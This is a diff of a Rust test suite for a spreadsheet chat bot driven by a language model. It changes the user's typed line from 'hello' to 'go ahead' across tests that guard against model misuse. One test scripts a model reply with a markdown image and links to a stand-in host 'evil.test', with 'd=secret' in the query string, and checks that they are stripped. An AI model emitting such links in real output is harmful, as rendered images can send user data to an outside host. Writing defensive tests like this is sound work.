@@ -53,7 +53,7 @@ async fn a_model_cannot_confirm_its_own_proposal() {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn images_and_foreign_links_do_not_leave() {
     let world = World::scripted(vec![Reply::Say("Done ![x](https://evil.test/?d=secret) see [this](https://evil.test/a) or https://evil.test/b or www.evil.test <https://evil.test/c>".into())]).await;
-    let said = world.type_line("hello").await;
+    let said = world.type_line("go ahead").await;
     assert!(!said.contains("evil.test/"), "{said}");
     world.end().await;
 }
@@ -108,7 +108,7 @@ async fn sql_that_does_more_than_read_is_refused_with_a_reason() {
     }
     let world = World::scripted(replies).await;
     for sql in attempts {
-        let said = world.type_line("hello").await;
+        let said = world.type_line("go ahead").await;
         assert!(said.contains("The last step failed"), "{sql}: {said}");
         assert!(told(&world).contains("error"), "{sql}: {}", told(&world));
     }
@@ -129,7 +129,7 @@ async fn a_condition_of_a_change_is_gated_like_a_query() {
         Reply::Say("no".into()),
     ])
     .await;
-    let said = world.type_line("hello").await;
+    let said = world.type_line("go ahead").await;
     assert!(said.contains("The last step failed") && !said.contains("Confirm"), "{said}");
     world.end().await;
 }
@@ -152,7 +152,7 @@ async fn a_text_that_begins_like_a_formula_stays_text() {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn an_endless_model_is_stopped_after_eight_rounds() {
     let world = World::scripted((0..20).map(|_| query("SELECT count(*) FROM sheet")).collect()).await;
-    let said = world.type_line("hello").await;
+    let said = world.type_line("go ahead").await;
     assert_eq!(world.azure.requests().len(), 8);
     insta::assert_snapshot!(said, @"bot> I could not come to an answer in eight steps. Please ask for less at once, for example one question per message.");
     world.end().await;
@@ -168,7 +168,7 @@ async fn unknown_functions_bad_json_and_bad_sql_go_back_to_the_model() {
         Reply::Say("It is sunny in Paris.".into()),
     ])
     .await;
-    insta::assert_snapshot!(world.type_line("hello").await, @r"
+    insta::assert_snapshot!(world.type_line("go ahead").await, @r"
     bot> It is sunny in Paris.
            ⚠️ The last step failed: no such column: nothing; the columns are: row_id, parent_id, level, row_number, is_parent, path, top, task_name, assigned_to, status, priority, department, start, due_date, percent_complete, budget, notes
     ");
@@ -190,7 +190,7 @@ async fn who_may_only_look_is_offered_no_way_to_write() {
     ])
     .await;
     world.sheets.world().set_access("Project Plan", "VIEWER");
-    world.type_line("hello").await;
+    world.type_line("go ahead").await;
     let offered = world.azure.requests()[0]["tools"].to_string();
     assert!(offered.contains("query_sheet") && !offered.contains("propose_"), "{offered}");
     let said = world.type_line("delete everything").await;
